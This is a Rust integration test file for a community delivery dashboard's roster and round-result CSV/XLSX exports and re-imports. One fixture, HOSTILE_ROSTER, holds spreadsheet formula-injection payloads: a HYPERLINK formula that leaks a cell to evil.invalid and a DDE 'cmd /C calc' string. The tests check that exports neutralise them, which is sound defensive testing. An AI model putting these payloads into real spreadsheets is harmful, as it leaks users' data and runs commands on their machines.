//! Exports: the roster and special-needs ledgers as CSV and XLSX, which import back to the same
//! roster, and a round's results.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use doorstep_core::Operation;
use doorstep_core::Role;
use doorstep_core::id::CompoundId;
use doorstep_core::schema::vocabulary::Outcome;
use reqwest::StatusCode;
use serde_json::Value;

use crate::harness::{Dash, Session};
use crate::operations::round_for_building_1;
use crate::overview::beilin;

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// What a household is, without the IDs a new import gives it.
fn essence(households: &Value) -> Vec<Value> {
    households
        .as_array()
        .unwrap()
        .iter()
        .map(|h| {
            let mut h = h.clone();
            let h = h.as_object_mut().unwrap();
            h.remove("id");
            h.remove("building");
            Value::Object(h.clone())
        })
        .collect()
}

async fn download(session: &Session, path: &str, content_type: &str) -> Vec<u8> {
    let answer = session.get(path).await;
    assert_eq!(answer.status, StatusCode::OK, "{path}: {}", answer.text());
    assert!(
        answer.header("content-type").starts_with(content_type),
        "{path}: {}",
        answer.header("content-type")
    );
    assert!(answer.header("content-disposition").starts_with("attachment; filename="), "{path}");
    answer.bytes
}

/// Imports `bytes` into a new compound run by the same coordinator session's admin; returns it.
async fn import_into_new(
    dash: &Dash,
    name: &str,
    content_type: &str,
    bytes: Vec<u8>,
) -> (CompoundId, Session) {
    let compound = dash.relay.create_compound(name).await;
    let coordinator = dash.relay.phone(compound, Role::Coordinator, "王芳").await;
    let session = dash.login(&coordinator.token).await;
    let path = format!("/dashboard/api/compounds/{compound}/import?mode=commit");
    let answer = session.post_bytes(&path, content_type, bytes).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text().chars().take(600).collect::<String>());
    (compound, session)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn roster_exports_import_back_to_the_same_roster() {
    let dash = Dash::start().await;
    let (compound, session) = beilin(&dash).await;
    let original =
        essence(&session.get_json(&format!("/dashboard/api/compounds/{compound}/households")).await);
    assert_eq!(original.len(), 857);
    let base = format!("/dashboard/api/compounds/{compound}/export");

    let csv = download(&session, &format!("{base}/roster.csv"), "text/csv").await;
    assert!(
        csv.starts_with("\u{feff}小区,楼号,单元,楼层,房号,户主,联系电话".as_bytes()),
        "UTF-8 BOM and the ledger's headers"
    );
    let xlsx = download(&session, &format!("{base}/roster.xlsx"), XLSX).await;
    assert!(xlsx.starts_with(b"PK\x03\x04"));

    for (name, content_type, bytes) in [("CSV 副本", "text/csv", csv), ("XLSX 副本", XLSX, xlsx.clone())]
    {
        let (copy, copy_session) = import_into_new(&dash, name, content_type, bytes).await;
        let again =
            essence(&copy_session.get_json(&format!("/dashboard/api/compounds/{copy}/households")).await);
        assert_eq!(again.len(), original.len(), "{name}");
        for (a, b) in original.iter().zip(&again) {
            assert_eq!(a, b, "{name}: a household changed on the way out and back in");
        }
    }

    // In the workbook, counts are numbers and phones stay text.
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(xlsx)).unwrap();
    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
    assert_eq!(sheet.get((0, 5)), Some(&Data::String("户主".into())));
    assert_eq!(sheet.get((1, 6)), Some(&Data::String("19908923609".into())));
    assert_eq!(sheet.get((1, 7)), Some(&Data::Float(2.0)));

    // The special-needs ledger is the roster's rows with a need tag, in the same columns.
    let needs = download(&session, &format!("{base}/special-needs.xlsx"), XLSX).await;
    let preview = session
        .post_bytes(&format!("/dashboard/api/compounds/{compound}/import?mode=preview"), XLSX, needs)
        .await;
    assert_eq!(preview.json()["households"], 62, "{}", preview.text());
    let needs_csv = download(&session, &format!("{base}/special-needs.csv"), "text/csv").await;
    let text = String::from_utf8(needs_csv).unwrap();
    assert_eq!(text.lines().count(), 63);
    assert!(text.lines().skip(1).all(|l| !l.split(',').nth(10).unwrap_or_default().is_empty()), "{text}");

    assert_eq!(session.get(&format!("{base}/roster.pdf")).await.status, StatusCode::NOT_FOUND);
    assert_eq!(session.get(&format!("{base}/secrets.csv")).await.status, StatusCode::NOT_FOUND);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rounds_results_list_every_door_and_knock() {
    let dash = Dash::start().await;
    let (compound, coordinator) = dash.small_compound().await;
    let mut volunteer = dash.relay.phone(compound, Role::Volunteer, "李强").await;
    let session = dash.login(&coordinator.token).await;
    let round = round_for_building_1(&session, compound).await;
    volunteer.sync(&dash.relay).await;
    let tasks = volunteer.compound().open_tasks();
    let first = tasks
        .iter()
        .find(|t| {
            volunteer.compound().households().iter().any(|h| h.id == t.household && h.address.flat == "101")
        })
        .unwrap()
        .id;
    volunteer.apply(&Operation::ClaimTask { round, task: first }).unwrap();
    volunteer
        .apply(&Operation::RecordAttempt {
            round,
            task: first,
            outcome: Outcome::NobodyHome,
            note: "敲门无人".into(),
        })
        .unwrap();
    volunteer
        .apply(&Operation::RecordAttempt {
            round,
            task: first,
            outcome: Outcome::Delivered,
            note: String::new(),
        })
        .unwrap();
    volunteer.sync(&dash.relay).await;

    let path = format!("/dashboard/api/compounds/{compound}/export/rounds/{round}");
    let csv = String::from_utf8(download(&session, &format!("{path}.csv"), "text/csv").await).unwrap();
    let mut rows = csv::ReaderBuilder::new().from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let headers = rows.headers().unwrap().clone();
    assert_eq!(&headers[9], "任务状态");
    let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    let row = &rows[0];
    assert_eq!((&row[4], &row[5], &row[8], &row[9], &row[10]), ("101", "管建强", "李强", "已送达", "2"));
    let knocks: Vec<&str> = row[11].lines().collect();
    assert_eq!(knocks.len(), 2, "{}", &row[11]);
    assert!(knocks[0].ends_with("李强 无人应答：敲门无人"), "{}", knocks[0]);
    assert!(knocks[1].ends_with("李强 已送达"), "{}", knocks[1]);
    assert_eq!(&rows[1][9], "待领取");

    let xlsx = download(&session, &format!("{path}.xlsx"), XLSX).await;
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(xlsx)).unwrap();
    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
    assert_eq!(sheet.get((1, 9)), Some(&Data::String("已送达".into())));
    assert_eq!(sheet.height(), 4);

    let overview = session.get_json(&format!("/dashboard/api/compounds/{compound}/overview")).await;
    assert_eq!(overview["rounds"][0]["delivered"], 1);
}

/// A roster whose cells would run as formulas in a spreadsheet, next to a phone number with a
/// country code (which the importer normalises) and a basement floor, which must come out as it is.
const HOSTILE_ROSTER: &str = "\u{feff}小区,楼号,单元,楼层,房号,户主,联系电话,户内人数,60岁以上人数,6岁以下儿童,重点人群,管控状态,有无电梯,备注
香樟苑,1号楼,1单元,-1,B01,@SUM(A1:A9),+86 139 1234 5678,2,1,0,独居老人,正常,无,\"=HYPERLINK(\"\"http://evil.invalid/?leak=\"\"&F2,\"\"click\"\")\"
香樟苑,1号楼,1单元,2,201,任强,19911257346,2,0,0,透析,正常,无,-2+3+cmd|' /C calc'!A0
";

/// The cells of the row of flat `flat` in an exported roster CSV, as a spreadsheet would split it.
fn csv_row(csv: &[u8], flat: &str) -> Vec<String> {
    let text = String::from_utf8(csv.to_vec()).unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .find(|r| r.get(4).map(String::as_str) == Some(flat))
        .unwrap_or_else(|| panic!("no flat {flat} in {text}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_quote_formulas_and_keep_phone_numbers() {
    let dash = Dash::start().await;
    let compound = dash.relay.create_compound("公式苑").await;
    dash.relay.import_roster(compound, HOSTILE_ROSTER).await;
    let coordinator = dash.relay.phone(compound, Role::Coordinator, "王芳").await;
    let session = dash.login(&coordinator.token).await;
    let base = format!("/dashboard/api/compounds/{compound}/export");

    let api = dash
        .http
        .get(format!("{}/v1/compounds/{compound}/roster.csv", dash.url()))
        .bearer_auth(&dash.relay.admin_token)
        .send()
        .await
        .unwrap();
    assert_eq!(api.status(), StatusCode::OK);
    let api = api.bytes().await.unwrap().to_vec();
    let dashboard = download(&session, &format!("{base}/roster.csv"), "text/csv").await;
    let needs = download(&session, &format!("{base}/special-needs.csv"), "text/csv").await;
    for (which, csv) in [("API", &api), ("dashboard", &dashboard), ("special needs", &needs)] {
        let basement = csv_row(csv, "B01");
        assert_eq!(basement[3], "-1", "{which}: a negative floor stays a number");
        assert_eq!(basement[5], "'@SUM(A1:A9)", "{which}");
        // The importer normalises phone numbers (+86, spaces), so the export holds digits a
        // search finds and a spreadsheet never reads as a formula.
        assert_eq!(basement[6], "13912345678", "{which}: the phone number as the importer normalised it");
        assert_eq!(basement[13], "'=HYPERLINK(\"http://evil.invalid/?leak=\"&F2,\"click\")", "{which}");
        let other = csv_row(csv, "201");
        assert_eq!(other[13], "'-2+3+cmd|' /C calc'!A0", "{which}");
        let text = String::from_utf8_lossy(csv);
        for line in text.lines() {
            for cell in line.split(',') {
                let cell = cell.trim_start_matches('"');
                assert!(!cell.starts_with('=') && !cell.starts_with('@'), "{which}: raw formula in {line}");
            }
        }
    }
    assert_eq!(api, dashboard, "the dashboard's roster CSV is the API's");

    // Re-imported, the quoted export gives back the cells exactly as they were typed.
    let again = dash.relay.create_compound("公式苑 再导入").await;
    dash.relay.import_roster(again, std::str::from_utf8(&api).unwrap()).await;
    let api_again = dash
        .http
        .get(format!("{}/v1/compounds/{again}/roster.csv", dash.url()))
        .bearer_auth(&dash.relay.admin_token)
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap()
        .to_vec();
    for flat in ["B01", "201"] {
        let (first, second) = (csv_row(&api, flat), csv_row(&api_again, flat));
        // (The last column is each roster's own export version.)
        let cells = |row: &[String]| row[5..row.len() - 1].to_vec();
        assert_eq!(cells(&first), cells(&second), "flat {flat}: the re-import changed a quoted cell");
    }

    // The workbook holds typed text, which no spreadsheet runs: the cells are as they were entered.
    let xlsx = download(&session, &format!("{base}/roster.xlsx"), XLSX).await;
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(xlsx)).unwrap();
    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
    let row = (1..sheet.height() as u32)
        .find(|r| sheet.get((*r as usize, 4)) == Some(&Data::String("B01".into())))
        .unwrap() as usize;
    assert_eq!(sheet.get((row, 5)), Some(&Data::String("@SUM(A1:A9)".into())));
    assert_eq!(
        sheet.get((row, 13)),
        Some(&Data::String("=HYPERLINK(\"http://evil.invalid/?leak=\"&F2,\"click\")".into()))
    );
}

/// Notes a volunteer typed that a spreadsheet would read as something else (an error value, a
/// quote, a lone tab, a sum), a phone number an edit wrote with dashes and a head with spaces
/// around it: the coordinator's own export of either kind, imported again unedited, changes
/// nothing. Before: `#N/A` and `#REF!` notes made their rows bad rows (formula errors) in both,
/// a tab note came back as `'`, `'=1` lost its quote through the workbook, and the phone and the
/// spaces were "updates".
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unedited_export_of_notes_that_look_like_formulas_imports_back_as_unchanged() {
    let dash = Dash::start().await;
    let compound = dash.relay.create_compound("备注苑").await;
    dash.relay.import_roster(compound, HOSTILE_ROSTER).await;
    let coordinator = dash.relay.phone(compound, Role::Coordinator, "王芳").await;
    let session = dash.login(&coordinator.token).await;
    let notes = ["#N/A", "#REF!", "\t", "'=1", "''", "  两边有空格  ", "-2+3", "\t需要轮椅"];
    let mut flats = vec!["B01".to_owned(), "201".to_owned()];
    for i in 0..notes.len() {
        let flat = format!("{}", 301 + i);
        let draft = added(&flat, 3, &format!("住户{i}"), Some(1), 0, "");
        let answer = session.operate(compound, &draft).await;
        assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
        flats.push(flat);
    }
    let households = session.get_json(&format!("/dashboard/api/compounds/{compound}/households")).await;
    let id_of = |flat: &str| {
        households.as_array().unwrap().iter().find(|h| h["address"]["flat"] == flat).unwrap()["id"].clone()
    };
    for (i, note) in notes.iter().enumerate() {
        let op = serde_json::json!({"op": "edit_notes", "household": id_of(&flats[2 + i]), "notes": note});
        assert_eq!(session.operate(compound, &op).await.status, StatusCode::OK);
    }
    let edit = serde_json::json!({"op": "edit_household", "household": id_of("201"),
        "edit": {"phone": "+86-139-1234-5678", "head": " 任强 "}});
    let answer = session.operate(compound, &edit).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    let before = session.get_json(&format!("/dashboard/api/compounds/{compound}/households")).await;

    let base = format!("/dashboard/api/compounds/{compound}/export");
    let csv = download(&session, &format!("{base}/roster.csv"), "text/csv").await;
    let xlsx = download(&session, &format!("{base}/roster.xlsx"), XLSX).await;
    for (which, content_type, bytes) in [("CSV", "text/csv", csv), ("XLSX", XLSX, xlsx)] {
        for mode in ["preview", "commit"] {
            let path = format!("/dashboard/api/compounds/{compound}/import?mode={mode}");
            let answer = session.post_bytes(&path, content_type, bytes.clone()).await;
            assert_eq!(answer.status, StatusCode::OK, "{which} {mode}: {}", answer.text());
            let json = answer.json();
            assert!(json["errors"].as_array().is_none_or(Vec::is_empty), "{which} {mode}: {json}");
            let (add, update) = match mode {
                "preview" => (&json["plan"]["add"], &json["plan"]["update"]),
                _ => (&json["added"], &json["updated"]),
            };
            assert_eq!((add.as_u64(), update.as_u64()), (Some(0), Some(0)), "{which} {mode}: {json}");
        }
        let after = session.get_json(&format!("/dashboard/api/compounds/{compound}/households")).await;
        assert_eq!(after, before, "{which}: the roster changed on the way out and back in");
    }
}

/// Knocks on one door add up past what an Excel cell holds (32,767 UTF-16 code units): ten
/// long notes on one task. The workbook is still written, that cell cut and saying so, and
/// the CSV holds every knock whole. A round titled in emoji past Excel's 31-unit sheet name
/// (an emoji counts two) still names its sheet. Before: both were 503 "unavailable".
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_round_with_more_knocks_than_an_excel_cell_holds_still_exports() {
    let dash = Dash::start().await;
    let (compound, coordinator) = dash.small_compound().await;
    let mut volunteer = dash.relay.phone(compound, Role::Volunteer, "李强").await;
    let session = dash.login(&coordinator.token).await;
    let created = session
        .operate(
            compound,
            &serde_json::json!({
                "op": "create_round", "title": "😀".repeat(31), "kind": "groceries", "date": "2026-11-23",
                "selection": {"by": "building", "estate": "", "building": "1"},
                "items": "蔬菜包", "priority": "normal"
            }),
        )
        .await;
    assert_eq!(created.status, StatusCode::OK, "{}", created.text());
    let round = created.json()["created"][0].as_str().unwrap().parse().unwrap();
    volunteer.sync(&dash.relay).await;
    let task = volunteer.compound().open_tasks()[0].id;
    let note = "楼道灯坏了😀".repeat(4000 / 6);
    for _ in 0..10 {
        let knock =
            Operation::RecordAttempt { round, task, outcome: Outcome::NobodyHome, note: note.clone() };
        volunteer.apply(&knock).unwrap();
    }
    let synced = volunteer.sync(&dash.relay).await;
    assert!(synced.rejected.is_empty(), "{:?}", synced.rejected);

    let path = format!("/dashboard/api/compounds/{compound}/export/rounds/{round}");
    let book = download(&session, &format!("{path}.xlsx"), XLSX).await;
    let mut book = Xlsx::new(Cursor::new(book)).unwrap();
    let sheet = book.sheet_names()[0].clone();
    assert_eq!(sheet, "😀".repeat(15), "the sheet name cut to 31 UTF-16 code units");
    let range = book.worksheet_range(&sheet).unwrap();
    let longest =
        range.rows().flatten().map(|c| c.to_string()).max_by_key(|t| t.encode_utf16().count()).unwrap();
    assert_eq!(longest.encode_utf16().count(), 32_767, "the knocks' cell is cut to Excel's limit");
    assert!(
        longest.contains("已截断") && longest.contains("CSV"),
        "and says so: …{}",
        &longest[longest.len() - 90..]
    );
    let csv = String::from_utf8(download(&session, &format!("{path}.csv"), "text/csv").await).unwrap();
    assert_eq!(csv.matches("楼道灯坏了").count(), 10 * (4000 / 6), "the CSV holds every knock whole");
}

/// A household as the dashboard's form adds it, in 香樟苑 building 9.
fn added(flat: &str, floor: i32, head: &str, people: Option<u32>, aged: u32, notes: &str) -> Value {
    serde_json::json!({
        "op": "add_household",
        "draft": {
            "address": {"estate": "香樟苑", "building": "9", "unit": "1", "floor": floor, "flat": flat},
            "head": head, "phone": "13800000000", "people": people, "aged_60_plus": aged,
            "children_under_6": 0, "needs": [], "status": "normal", "lift": false, "notes": notes,
        }
    })
}

/// What the dashboard takes, its export reads back in: households at every limit the rulebook
/// allows survive the way out and back in, and what the import would refuse the dashboard
/// refuses in the first place (a floor of 201 or -10, 100 people, a 4,000-character note, a blank
/// head and more over-60s than people were taken, then exported into a file the import refused).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn households_at_every_limit_the_dashboard_takes_export_and_import_back() {
    let dash = Dash::start().await;
    let (compound, coordinator) = dash.small_compound().await;
    let session = dash.login(&coordinator.token).await;
    let long_note: String = "备".repeat(4000);
    let long_head: String = "名".repeat(200);
    for op in [
        added("9901", -9, "地下", Some(1), 0, ""),
        added("9902", 200, "顶楼", Some(2), 2, ""),
        added("9903", 3, "大户", Some(100), 100, ""),
        added("9904", 4, &long_head, None, 5, &long_note),
        added("9905", 5, "换行", Some(1), 0, "一行\n二行\r\n三行"),
    ] {
        let answer = session.operate(compound, &op).await;
        assert_eq!(answer.status, StatusCode::OK, "{op}: {}", answer.text());
    }
    for (op, field) in [
        (added("9911", 201, "甲", Some(1), 0, ""), "floor"),
        (added("9912", -10, "乙", Some(1), 0, ""), "floor"),
        (added("9913", 1, "", Some(1), 0, ""), "head"),
        (added("9914", 1, "  ", Some(1), 0, ""), "head"),
        (added("9915", 1, "丙", Some(1), 3, ""), "aged_60_plus"),
        (added("9916", 1, "丁", Some(101), 0, ""), "people"),
    ] {
        let answer = session.operate(compound, &op).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{op}: {}", answer.text());
        assert!(answer.text().contains(field), "{field}: {}", answer.text());
    }
    // An address is kept as the import reads it: a unit written 3单元 is unit 3, a building
    // written A座 is A, a flat written 9920室 is 9920 (they came back as 3单元单元 and were
    // refused); one the import would read as a whole address, or not at all, is refused.
    let at = |building: &str, unit: &str, flat: &str| {
        let mut op = added(flat, 1, "地址", Some(1), 0, "");
        op["draft"]["address"]["building"] = building.into();
        op["draft"]["address"]["unit"] = unit.into();
        op
    };
    for op in [at("A座", "3单元", "9920室"), at("9号楼", "2", "9921")] {
        let answer = session.operate(compound, &op).await;
        assert_eq!(answer.status, StatusCode::OK, "{op}: {}", answer.text());
    }
    for (op, field) in [
        (at("A-1", "1", "9930"), "building"),
        (at("9", "3-1", "9931"), "unit"),
        (at("9", "1", "17-3-702"), "flat"),
        (at("9", "1", "东101"), "flat"),
    ] {
        let answer = session.operate(compound, &op).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{op}: {}", answer.text());
        assert!(answer.text().contains(field), "{field}: {}", answer.text());
    }
    let kept = session.get_json(&format!("/dashboard/api/compounds/{compound}/households")).await;
    let kept = kept
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["address"]["flat"] == "9920")
        .expect("9920室 kept as 9920");
    assert_eq!(
        (kept["address"]["building"].as_str(), kept["address"]["unit"].as_str()),
        (Some("A"), Some("3"))
    );

    // An edit may not leave more over-60s than people either.
    let households = session.get_json(&format!("/dashboard/api/compounds/{compound}/households")).await;
    let big = households.as_array().unwrap().iter().find(|h| h["address"]["flat"] == "9903").unwrap();
    let shrink = serde_json::json!({"op": "edit_household", "household": big["id"], "edit": {"people": 3}});
    let answer = session.operate(compound, &shrink).await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.text());
    assert!(answer.text().contains("more than the 3 people"), "{}", answer.text());

    let original =
        essence(&session.get_json(&format!("/dashboard/api/compounds/{compound}/households")).await);
    assert_eq!(original.len(), 13);
    let base = format!("/dashboard/api/compounds/{compound}/export");
    let csv = download(&session, &format!("{base}/roster.csv"), "text/csv").await;
    let xlsx = download(&session, &format!("{base}/roster.xlsx"), XLSX).await;
    for (name, content_type, bytes) in [("CSV 副本", "text/csv", csv), ("XLSX 副本", XLSX, xlsx)] {
        let (copy, copy_session) = import_into_new(&dash, name, content_type, bytes).await;
        let again =
            essence(&copy_session.get_json(&format!("/dashboard/api/compounds/{copy}/households")).await);
        assert_eq!(again, original, "{name}: the roster changed on the way out and back in");
    }
}

/// A volunteer delivers offline to a door a coordinator cancelled meanwhile (the resident got
/// supplies elsewhere): the delivery counts, and the round's results still say it was cancelled
/// and why, so the coordinator learns goods were left there.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_delivery_to_a_door_cancelled_meanwhile_keeps_the_cancellation_in_the_results() {
    let dash = Dash::start().await;
    let (compound, coordinator) = dash.small_compound().await;
    let mut volunteer = dash.relay.phone(compound, Role::Volunteer, "李强").await;
    let session = dash.login(&coordinator.token).await;
    let round = round_for_building_1(&session, compound).await;
    volunteer.sync(&dash.relay).await;
    let task = volunteer.compound().open_tasks()[0].id;
    volunteer.apply(&Operation::ClaimTask { round, task }).unwrap();
    volunteer
        .apply(&Operation::RecordAttempt { round, task, outcome: Outcome::Delivered, note: String::new() })
        .unwrap();
    let cancel = serde_json::json!({"op": "cancel_task", "round": round, "task": task, "reason": "已住院"});
    let answer = session.operate(compound, &cancel).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    volunteer.sync(&dash.relay).await;

    let path = format!("/dashboard/api/compounds/{compound}/export/rounds/{round}");
    let csv = String::from_utf8(download(&session, &format!("{path}.csv"), "text/csv").await).unwrap();
    assert!(csv.contains("已送达（协调员已取消：已住院）"), "{csv}");
}

/// The morning's export, one phone number fixed in it, imported in the afternoon: only that
/// number changes. What volunteers and coordinators wrote since (a note on a phone, a need tag
/// and a status on the dashboard) is kept where the file still holds the morning's value (it
/// was written back over them, silently), a cell the coordinator did change replaces a value
/// changed since with a warning saying so, a household removed since is not added back, and a
/// name that came back with "?" for a character the file's encoding lost is left as it was.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_morning_export_imported_in_the_afternoon_changes_only_what_was_changed_in_it() {
    let dash = Dash::start().await;
    let (compound, coordinator) = dash.small_compound().await;
    let mut volunteer = dash.relay.phone(compound, Role::Volunteer, "李强").await;
    let session = dash.login(&coordinator.token).await;
    let households = session.get_json(&format!("/dashboard/api/compounds/{compound}/households")).await;
    let id_of = |building: &str, flat: &str| {
        households
            .as_array()
            .unwrap()
            .iter()
            .find(|h| h["address"]["building"] == building && h["address"]["flat"] == flat)
            .unwrap()["id"]
            .clone()
    };
    let rare =
        serde_json::json!({"op": "edit_household", "household": id_of("2", "201"), "edit": {"head": "王䶮"}});
    assert_eq!(session.operate(compound, &rare).await.status, StatusCode::OK);
    for (flat, note) in [("101", "放门口即可"), ("301", "早上的备注")] {
        let op = serde_json::json!({"op": "edit_notes", "household": id_of("1", flat), "notes": note});
        assert_eq!(session.operate(compound, &op).await.status, StatusCode::OK);
    }

    // 09:00, the export.
    let morning =
        download(&session, &format!("/dashboard/api/compounds/{compound}/export/roster.csv"), "text/csv")
            .await;
    let morning = String::from_utf8(morning).unwrap();

    // Since: a volunteer's note on a phone, a tag and a status on the dashboard, a note the
    // coordinator will also change in the file, a household removed.
    volunteer.sync(&dash.relay).await;
    let door = volunteer
        .compound()
        .households()
        .into_iter()
        .find(|h| h.address.flat == "101" && h.address.building == "1")
        .unwrap()
        .id;
    volunteer.apply(&Operation::EditNotes { household: door, notes: "老人已住院，暂停配送".into() }).unwrap();
    volunteer.sync(&dash.relay).await;
    for op in [
        serde_json::json!({"op": "set_need_tags", "household": id_of("1", "201"), "needs": ["elderly_alone", "dialysis"]}),
        serde_json::json!({"op": "set_control_status", "household": id_of("2", "101"), "status": "central_quarantine"}),
        serde_json::json!({"op": "edit_notes", "household": id_of("1", "301"), "notes": "中午改过的备注"}),
    ] {
        let answer = session.operate(compound, &op).await;
        assert_eq!(answer.status, StatusCode::OK, "{op}: {}", answer.text());
    }
    let removal = serde_json::json!({"op": "remove_household", "household": households.as_array().unwrap().iter()
        .find(|h| h["address"]["building"] == "2" && h["address"]["unit"] == "2").unwrap()["id"]});
    assert_eq!(session.operate(compound, &removal).await.status, StatusCode::OK);
    let before = session.get_json(&format!("/dashboard/api/compounds/{compound}/households")).await;

    // 15:00, the morning's file with one phone fixed, 1-1-301's note rewritten, and 2-1-201's
    // name as Excel's GBK "CSV" saves it.
    let afternoon = morning
        .replace("19901919478", "13800001111")
        .replace("早上的备注", "下午表里改的备注")
        .replace("王䶮", "王?");
    let path = format!("/dashboard/api/compounds/{compound}/import");
    let preview =
        session.post_bytes(&format!("{path}?mode=preview"), "text/csv", afternoon.clone().into_bytes()).await;
    assert_eq!(preview.status, StatusCode::OK, "{}", preview.text());
    let preview = preview.json();
    let plan = &preview["plan"];
    assert_eq!((plan["add"].as_u64(), plan["update"].as_u64()), (Some(0), Some(2)), "{preview}");
    assert_eq!(plan["kept_changed_since_export"], 3, "{preview}");
    assert_eq!(plan["removed_since_export"], 1, "{preview}");
    let codes: Vec<&str> =
        preview["warnings"].as_array().unwrap().iter().filter_map(|w| w["code"].as_str()).collect();
    for code in
        ["changed_since_export", "replaces_change_since_export", "removed_since_export", "characters_lost"]
    {
        assert!(codes.contains(&code), "{code}: {preview}");
    }
    let committed =
        session.post_bytes(&format!("{path}?mode=commit"), "text/csv", afternoon.into_bytes()).await;
    assert_eq!(committed.status, StatusCode::OK, "{}", committed.text());
    assert_eq!(
        (committed.json()["added"].as_u64(), committed.json()["updated"].as_u64()),
        (Some(0), Some(2))
    );

    let after = session.get_json(&format!("/dashboard/api/compounds/{compound}/households")).await;
    let field = |list: &Value, building: &str, flat: &str, key: &str| {
        list.as_array()
            .unwrap()
            .iter()
            .find(|h| h["address"]["building"] == building && h["address"]["flat"] == flat)
            .map(|h| h[key].clone())
    };
    assert_eq!(field(&after, "1", "101", "phone"), Some("13800001111".into()), "the fix");
    assert_eq!(
        field(&after, "1", "101", "notes"),
        Some("老人已住院，暂停配送".into()),
        "the volunteer's note"
    );
    assert_eq!(field(&after, "1", "201", "needs"), field(&before, "1", "201", "needs"), "the tags set since");
    assert_eq!(
        field(&after, "2", "101", "status"),
        Some("central_quarantine".into()),
        "the status set since"
    );
    assert_eq!(field(&after, "1", "301", "notes"), Some("下午表里改的备注".into()), "the file's own edit");
    assert_eq!(field(&after, "2", "201", "head"), Some("王䶮".into()), "not 王?");
    assert_eq!(after.as_array().unwrap().len(), before.as_array().unwrap().len(), "nothing added back");
}

/// A roster exported from one compound imports into another as new households without a word
/// about its 导出版本 (nothing is written over); imported again there, where it names no version
/// of that roster, it says so once and compares every cell with the roster as it is.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_from_another_compound_says_its_version_is_not_this_rosters_only_when_it_updates() {
    let dash = Dash::start().await;
    let (compound, coordinator) = dash.small_compound().await;
    let session = dash.login(&coordinator.token).await;
    let csv =
        download(&session, &format!("/dashboard/api/compounds/{compound}/export/roster.csv"), "text/csv")
            .await;
    let copy = dash.relay.create_compound("香樟苑 副本").await;
    let admin = dash.login(&dash.relay.admin_token).await;
    let path = format!("/dashboard/api/compounds/{copy}/import");
    let codes = |answer: &Value| -> Vec<String> {
        answer["warnings"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|w| w["code"].as_str().map(str::to_owned))
            .collect()
    };
    let first = admin.post_bytes(&format!("{path}?mode=commit"), "text/csv", csv.clone()).await;
    assert_eq!(first.status, StatusCode::OK, "{}", first.text());
    assert_eq!(first.json()["added"], 6, "{}", first.text());
    assert!(!codes(&first.json()).contains(&"export_version_unknown".to_owned()), "{}", first.text());
    let again = admin.post_bytes(&format!("{path}?mode=preview"), "text/csv", csv).await;
    assert_eq!(again.status, StatusCode::OK, "{}", again.text());
    let codes = codes(&again.json());
    assert_eq!(codes.iter().filter(|c| *c == "export_version_unknown").count(), 1, "{codes:?}");
    assert_eq!(again.json()["plan"]["unchanged"], 6, "{}", again.text());
}
